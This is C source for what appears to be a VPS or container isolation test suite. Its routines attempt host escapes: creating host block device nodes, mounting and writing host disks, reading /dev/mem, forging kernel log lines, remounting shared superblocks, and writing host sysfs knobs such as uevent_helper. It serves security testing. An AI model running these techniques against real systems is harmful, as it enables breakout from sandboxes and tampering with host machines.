/* Devices and mounts: host block devices, memory and log devices, mount
 * propagation, remounting shared superblocks, sysfs and tracefs. */
#include "attack.h"

#include <sys/mount.h>


struct dev_part {
    unsigned maj, min;
    char name[256];
};

/* Block devices from /proc/partitions (the kernel's list: it is the same
 * for every namespace), then /sys/class/block as a fallback. */
static int dev_partitions(struct dev_part *parts, int max) {
    FILE *f = fopen("/proc/partitions", "re");
    int n = 0;
    char line[256];
    while (f && fgets(line, sizeof line, f) && n < max) {
        struct dev_part p;
        unsigned long long blocks;
        if (sscanf(line, " %u %u %llu %63s", &p.maj, &p.min, &blocks, p.name) == 4) parts[n++] = p;
    }
    if (f) fclose(f);
    if (n > 0) return n;
    DIR *d = opendir("/sys/class/block");
    struct dirent *e;
    while (d && (e = readdir(d)) && n < max) {
        char path[300], buf[64];
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/sys/class/block/%s/dev", e->d_name);
        struct dev_part p;
        if (read_text(path, buf, sizeof buf) == 0 && sscanf(buf, "%u:%u", &p.maj, &p.min) == 2) {
            snprintf(p.name, sizeof p.name, "%s", e->d_name);
            parts[n++] = p;
        }
    }
    if (d) closedir(d);
    return n;
}

ATTACK(dev_mknod_disk, "mknod the host's block devices and read them raw") {
    (void)argc, (void)argv;
    struct dev_part parts[32];
    int n = dev_partitions(parts, 32);
    if (n == 0) return verdict_blocked("no block device is listed in /proc/partitions or /sys/class/block");
    for (int i = 0; i < n; i++) {
        char where[300], node[96];
        int err;
        snprintf(node, sizeof node, "vzsec-blk-%s", parts[i].name);
        int fd = mknod_open(node, S_IFBLK, makedev(parts[i].maj, parts[i].min), O_RDONLY, where,
                            sizeof where, &err);
        if (fd < 0) {
            block_note("%s (%u:%u): %s", parts[i].name, parts[i].maj, parts[i].min, mknod_why());
            continue;
        }
        unsigned char sb[2048];
        ssize_t got = pread(fd, sb, sizeof sb, 0);
        close(fd);
        unlink(where);
        if (got < 0) {
            block_note("%s: opened, read %s", parts[i].name, ename(errno));
            continue;
        }
        char fsinfo[128] = "";
        if (got >= 2048 && sb[1024 + 0x38] == 0x53 && sb[1024 + 0x39] == 0xef)
            snprintf(fsinfo, sizeof fsinfo, ", ext4 superblock (magic ef53, label '%.16s')",
                     (char *)sb + 1024 + 0x78);
        escape_note("read %zd raw bytes of host disk %s (%u:%u) through a node made with mknod at %s%s",
                    got, parts[i].name, parts[i].maj, parts[i].min, where, fsinfo);
    }
    return finish();
}

ATTACK(dev_mount_disk, "mknod a host block device, mount it, read and write host files") {
    (void)argc, (void)argv;
    struct dev_part parts[32];
    int n = dev_partitions(parts, 32);
    if (n == 0) return verdict_blocked("no block device is listed");
    const char *mnt = "/run/vzsec-disk";
    mkdir(mnt, 0700);
    for (int i = 0; i < n; i++) {
        char where[300], node[96];
        int err;
        snprintf(node, sizeof node, "vzsec-mnt-%s", parts[i].name);
        int fd = mknod_open(node, S_IFBLK, makedev(parts[i].maj, parts[i].min), O_RDONLY, where,
                            sizeof where, &err);
        if (fd < 0) {
            block_note("%s: %s", parts[i].name, mknod_why());
            continue;
        }
        close(fd);
        static const char *types[] = {"ext4", "xfs", "btrfs"};
        int mounted = 0, merr = 0, ro = 0;
        for (size_t t = 0; t < 3 && !mounted; t++) {
            if (mount(where, mnt, types[t], 0, NULL) == 0) {
                mounted = 1;
            } else if (mount(where, mnt, types[t], MS_RDONLY, NULL) == 0) {
                mounted = 1;
                ro = 1;
            } else {
                merr = errno;
            }
        }
        if (!mounted) {
            block_note("%s: mount %s", parts[i].name, ename(merr));
            unlink(where);
            continue;
        }
        char what[1024];
        snprintf(what, sizeof what, "mounted host disk %s%s at %s", parts[i].name, ro ? " read-only" : "", mnt);
        const char *sentinel = getenv("VZSEC_DISK_SENTINEL");
        const char *secret = env_or("VZSEC_SECRET", "");
        if (sentinel) {
            char path[600], buf[256];
            snprintf(path, sizeof path, "%s/%s", mnt, sentinel);
            int rerr = read_text(path, buf, sizeof buf);
            if (rerr == 0 && *secret && strstr(buf, secret))
                snprintf(what + strlen(what), sizeof what - strlen(what),
                         "; read the host sentinel %s (holds the secret)", sentinel);
            else
                snprintf(what + strlen(what), sizeof what - strlen(what), "; sentinel %s: %s",
                         sentinel, rerr ? ename(rerr) : "no secret in it");
        }
        const char *wname = getenv("VZSEC_DISK_WRITE");
        if (wname && !ro) {
            char path[600];
            snprintf(path, sizeof path, "%s/%s", mnt, wname);
            int wfd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (wfd >= 0) {
                ssize_t w = write(wfd, "written from inside a VPS\n", 26);
                (void)w;
                close(wfd);
                snprintf(what + strlen(what), sizeof what - strlen(what), "; created host file %s", wname);
            } else {
                snprintf(what + strlen(what), sizeof what - strlen(what), "; create %s: %s", wname,
                         ename(errno));
            }
        }
        umount2(mnt, MNT_DETACH);
        unlink(where);
        escape_note("%s", what);
    }
    rmdir(mnt);
    return finish();
}

ATTACK(dev_mem, "mknod /dev/mem, /dev/kmem, /dev/port and read them") {
    (void)argc, (void)argv;
    static const struct {
        const char *name;
        unsigned min;
    } devs[] = {{"mem", 1}, {"kmem", 2}, {"port", 4}};
    for (size_t i = 0; i < 3; i++) {
        char where[300], node[64];
        int err;
        snprintf(node, sizeof node, "vzsec-%s", devs[i].name);
        int fd = mknod_open(node, S_IFCHR, makedev(1, devs[i].min), O_RDONLY, where, sizeof where, &err);
        if (fd < 0) {
            block_note("/dev/%s: %s", devs[i].name, mknod_why());
            continue;
        }
        unsigned char buf[64];
        /* /dev/mem: the first page of low memory (BIOS data area). */
        ssize_t got = pread(fd, buf, sizeof buf, devs[i].min == 4 ? 0x80 : 0x400);
        close(fd);
        unlink(where);
        if (got > 0)
            escape_note("read %zd bytes of /dev/%s", got, devs[i].name);
        else
            block_note("/dev/%s opened but read: %s", devs[i].name, got < 0 ? ename(errno) : "EOF");
    }
    return finish();
}

ATTACK(dev_kmsg_read, "read the host kernel log: /dev/kmsg, /proc/kmsg, syslog(2)") {
    (void)argc, (void)argv;
    char where[300], buf[1024];
    int err;
    int fd = open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) fd = mknod_open("vzsec-kmsg", S_IFCHR, makedev(1, 11), O_RDONLY | O_NONBLOCK, where,
                                sizeof where, &err);
    else
        where[0] = 0;
    if (fd < 0) {
        block_note("/dev/kmsg: %s", mknod_why());
    } else {
        ssize_t got = read(fd, buf, sizeof buf - 1);
        if (got > 0) {
            buf[got] = 0;
            buf[strcspn(buf, "\n")] = 0;
            escape_note("read the host kernel log through /dev/kmsg: '%.80s'", buf);
        } else {
            block_note("/dev/kmsg read: %s", got < 0 ? ename(errno) : "EOF");
        }
        close(fd);
    }
    if (where[0]) unlink(where);
    fd = open("/proc/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    struct stat kst;
    if (fd < 0) {
        block_note("/proc/kmsg: %s", ename(errno));
    } else if (fstat(fd, &kst) == 0 && S_ISCHR(kst.st_mode) && kst.st_rdev == makedev(1, 3)) {
        close(fd);
        block_note("/proc/kmsg is masked by /dev/null");
    } else {
        close(fd); /* reading would steal the host's messages: opening is enough */
        escape_note("opened /proc/kmsg");
    }
    /* SYSLOG_ACTION_READ_ALL = 3 */
    long n = syscall(SYS_syslog, 3, buf, (int)sizeof buf);
    if (n > 0)
        escape_note("syslog(READ_ALL) returned %ld bytes of the kernel log", n);
    else
        block_note("syslog(READ_ALL): %s", n < 0 ? ename(errno) : "empty");
    return finish();
}

ATTACK(dev_kmsg_inject, "write a forged line into the host kernel log through /dev/kmsg") {
    (void)argc, (void)argv;
    char where[300] = "", line[256];
    int err = 0;
    int fd = open("/dev/kmsg", O_WRONLY | O_CLOEXEC);
    if (fd < 0) fd = mknod_open("vzsec-kmsgw", S_IFCHR, makedev(1, 11), O_WRONLY, where, sizeof where, &err);
    if (fd < 0) return verdict_blocked("/dev/kmsg for writing: %s", mknod_why());
    snprintf(line, sizeof line, "<2>vzsec-kmsg-%s: forged kernel message from inside a VPS\n",
             env_or("VZSEC_TOKEN", "x"));
    ssize_t w = write(fd, line, strlen(line));
    int werr = errno;
    close(fd);
    if (where[0]) unlink(where);
    if (w < 0) return verdict_blocked("write /dev/kmsg: %s", ename(werr));
    return verdict_escaped("wrote %zd bytes into the host kernel log (vzsec-kmsg-%s)", w,
                           env_or("VZSEC_TOKEN", "x"));
}

ATTACK(mnt_propagation, "make / shared, mount tmpfs and binds, see if the host gets them") {
    (void)argc, (void)argv;
    char dir1[128], dir2[128], done[512] = "";
    const char *tok = env_or("VZSEC_TOKEN", "x");
    snprintf(dir1, sizeof dir1, "/root/vzsec-prop-%s", tok);
    snprintf(dir2, sizeof dir2, "/root/vzsec-propbind-%s", tok);
    mkdir(dir1, 0755);
    mkdir(dir2, 0755);
    if (mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL) < 0)
        say("make / rshared: %s", ename(errno));
    else
        strcat(done, "made / rshared; ");
    if (mount("vzsec-prop", dir1, "tmpfs", 0, "size=1m") < 0)
        return verdict_blocked("mount tmpfs: %s", ename(errno));
    strcat(done, "tmpfs on ");
    strcat(done, dir1);
    if (mount("/proc", dir2, NULL, MS_BIND, NULL) == 0) {
        strcat(done, ", /proc bound on ");
        strcat(done, dir2);
    }
    /* Keep the mounts: the runner looks for them on the host. */
    return verdict_ready("%s", done);
}

ATTACK(mnt_remount_root, "remount / (a bind of the host's storage filesystem): read-only, then other options") {
    (void)argc, (void)argv;
    /* Without MS_BIND a remount changes the superblock, which the host's
     * storage area shares. */
    if (mount(NULL, "/", NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0) {
        int fd = open("/root/vzsec-ro-probe", O_WRONLY | O_CREAT, 0644);
        int err = fd < 0 ? errno : 0;
        if (fd >= 0) close(fd);
        /* Left read-only on purpose: the runner checks the host's side. */
        return verdict_ready("remount(/, MS_REMOUNT|MS_RDONLY) succeeded; a write inside now fails with %s",
                             err ? ename(err) : "nothing (still writable)");
    }
    int err = errno;
    if (err == EPERM || err == EACCES) return verdict_blocked("remount / ro: %s", ename(err));
    /* EBUSY: the permission checks passed, only files open for writing
     * (the host's) stopped it. Options that need no quiescing go through. */
    say("remount / ro: %s (past the permission checks)", ename(err));
    if (mount(NULL, "/", NULL, MS_REMOUNT, "commit=19") == 0)
        return verdict_ready("remount / ro: %s; remount(/, MS_REMOUNT, \"commit=19\") succeeded (an ext4 "
                             "superblock option)", ename(err));
    int err2 = errno;
    if (err2 == EPERM || err2 == EACCES)
        return verdict_blocked("remount / ro: %s; remount / commit=19: %s", ename(err), ename(err2));
    return verdict_ready("remount / ro: %s; remount / commit=19: %s (both past the permission checks)", ename(err),
                         ename(err2));
}

ATTACK(mnt_remount_dev, "remount the superblocks behind bind-mounted /dev/null and /dev/console read-only") {
    (void)argc, (void)argv;
    /* /dev/null is a bind of the host's devtmpfs node, /dev/console of a
     * pty of vzd's devpts: a remount without MS_BIND changes those
     * superblocks, which the host uses. */
    static const char *targets[] = {"/dev/null", "/dev/console"};
    char res[512] = "";
    for (int i = 0; i < 2; i++) {
        int rc = mount(NULL, targets[i], NULL, MS_REMOUNT | MS_RDONLY, NULL);
        snprintf(res + strlen(res), sizeof res - strlen(res), "%sremount(%s, MS_REMOUNT|MS_RDONLY): %s",
                 i ? "; " : "", targets[i], rc == 0 ? "ok" : ename(errno));
    }
    return verdict_ready("%s", res);
}

ATTACK(dev_mount_devtmpfs, "mount devtmpfs: every host device node, then read the host disk through it") {
    (void)argc, (void)argv;
    const char *mnt = "/run/vzsec-devtmpfs";
    mkdir(mnt, 0755);
    if (mount("devtmpfs", mnt, "devtmpfs", 0, NULL) < 0) {
        int err = errno;
        rmdir(mnt);
        return verdict_blocked("mount devtmpfs: %s", ename(err));
    }
    int n = 0;
    DIR *d = opendir(mnt);
    struct dirent *e;
    while (d && (e = readdir(d))) n++;
    if (d) closedir(d);
    struct dev_part parts[32];
    int np = dev_partitions(parts, 32);
    char what[512];
    snprintf(what, sizeof what, "mounted the host's devtmpfs (%d entries)", n);
    for (int i = 0; i < np; i++) {
        char path[400];
        unsigned char buf[512];
        snprintf(path, sizeof path, "%s/%s", mnt, parts[i].name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        ssize_t got = pread(fd, buf, sizeof buf, 0);
        close(fd);
        if (got > 0)
            snprintf(what + strlen(what), sizeof what - strlen(what), "; read %zd bytes of %s through it", got,
                     parts[i].name);
    }
    umount2(mnt, MNT_DETACH);
    rmdir(mnt);
    return verdict_escaped("%s", what);
}

ATTACK(mnt_shutdown_remount, "stage: the VPS's shutdown runs `umount -a -r` (the template's inittab)") {
    (void)argc, (void)argv;
    char inittab[4096];
    int err = read_text("/etc/inittab", inittab, sizeof inittab);
    if (err) return verdict_error("read /etc/inittab: %s", ename(err));
    char *line = strstr(inittab, "umount -a -r");
    if (!line) {
        /* Make sure it is there: any VPS root can write its own inittab. */
        int fd = open("/etc/inittab", O_WRONLY | O_APPEND);
        if (fd < 0) return verdict_error("append to /etc/inittab: %s", ename(errno));
        ssize_t w = write(fd, "::shutdown:/bin/umount -a -r\n", 29);
        (void)w;
        close(fd);
        return verdict_ready("added '::shutdown:/bin/umount -a -r' to /etc/inittab");
    }
    return verdict_ready("/etc/inittab already runs 'umount -a -r' at shutdown (the busybox template's own)");
}

/* Host-wide sysfs knobs and a value to write that differs from VALUE. */
static const char *mnt_other_choice(const char *file, const char *cur) {
    /* Run by the kernel as host root on every uevent: a path that does not
     * exist is the proof without the harm. */
    if (strstr(file, "uevent_helper")) return "/vzsec-no-such-uevent-helper";
    if (strstr(file, "transparent_hugepage/enabled") || strstr(file, "transparent_hugepage/defrag"))
        return strstr(cur, "[never]") ? "madvise" : "never";
    if (strstr(file, "printk/parameters/time")) return cur[0] == 'Y' ? "N" : "Y";
    return NULL;
}

ATTACK(mnt_sysfs_rw, "write host-wide sysfs knobs: through /sys, a remounted /sys, a fresh sysfs") {
    (void)argc, (void)argv;
    static const char *knobs[] = {"kernel/uevent_helper", "kernel/mm/transparent_hugepage/enabled",
                                  "kernel/mm/transparent_hugepage/defrag",
                                  "module/printk/parameters/time"};
    const char *fresh = "/run/vzsec-sysfs";
    mkdir(fresh, 0755);
    int fresh_ok = mount("sysfs", fresh, "sysfs", 0, NULL) == 0;
    if (!fresh_ok) say("mount a fresh sysfs: %s", ename(errno));
    /* /sys as mounted; its mount made writable (MS_BIND); its superblock
     * made writable (the VPS's network namespace has its own sysfs
     * superblock, but the knobs below are global); a fresh mount. */
    const char *bases[] = {"/sys", "/sys (mount remounted rw)", "/sys (superblock remounted rw)", fresh};
    for (int b = 0; b < 4; b++) {
        const char *base = b == 3 ? fresh : "/sys";
        if (b == 1 && mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) < 0) {
            block_note("remount /sys rw (bind): %s", ename(errno));
            continue;
        }
        if (b == 2 && mount(NULL, "/sys", NULL, MS_REMOUNT, NULL) < 0) {
            block_note("remount the /sys superblock rw: %s", ename(errno));
            continue;
        }
        if (b == 3 && !fresh_ok) {
            block_note("fresh sysfs: %s", "mount failed");
            continue;
        }
        for (size_t k = 0; k < sizeof knobs / sizeof knobs[0]; k++) {
            char path[300], cur[256];
            snprintf(path, sizeof path, "%s/%s", base, knobs[k]);
            if (read_text(path, cur, sizeof cur) != 0) continue;
            const char *want = mnt_other_choice(knobs[k], cur);
            if (!want) continue;
            int err = write_text(path, want);
            if (err) {
                block_note("%s via %s: %s", knobs[k], bases[b], ename(err));
                continue;
            }
            cur[strcspn(cur, "\n")] = 0;
            escape_note("wrote '%s' to host knob /sys/%s via %s (was '%s')", want, knobs[k], bases[b], cur);
            /* One change is the proof; a second write could flip it back. */
            goto out;
        }
    }
out:
    mount(NULL, "/sys", NULL, MS_REMOUNT | MS_RDONLY, NULL);
    mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
    if (fresh_ok) umount2(fresh, MNT_DETACH);
    rmdir(fresh);
    return finish();
}

ATTACK(mnt_tracefs, "mount tracefs/debugfs and write into the host kernel's trace buffer") {
    (void)argc, (void)argv;
    const char *mnt = "/run/vzsec-trace";
    mkdir(mnt, 0755);
    static const struct {
        const char *fs, *marker;
    } fss[] = {{"tracefs", "trace_marker"}, {"debugfs", "tracing/trace_marker"}};
    for (int i = 0; i < 2; i++) {
        if (mount(fss[i].fs, mnt, fss[i].fs, 0, NULL) < 0) {
            block_note("mount %s: %s", fss[i].fs, ename(errno));
            continue;
        }
        char path[300], line[128];
        snprintf(path, sizeof path, "%s/%s", mnt, fss[i].marker);
        snprintf(line, sizeof line, "vzsec-trace-%s\n", env_or("VZSEC_TOKEN", "x"));
        int err = write_text(path, line);
        if (err)
            escape_note("mounted the host's %s (write %s: %s)", fss[i].fs, fss[i].marker, ename(err));
        else
            escape_note("mounted the host's %s and wrote vzsec-trace-%s into its %s", fss[i].fs,
                        env_or("VZSEC_TOKEN", "x"), fss[i].marker);
        umount2(mnt, MNT_DETACH);
    }
    rmdir(mnt);
    return finish();
}
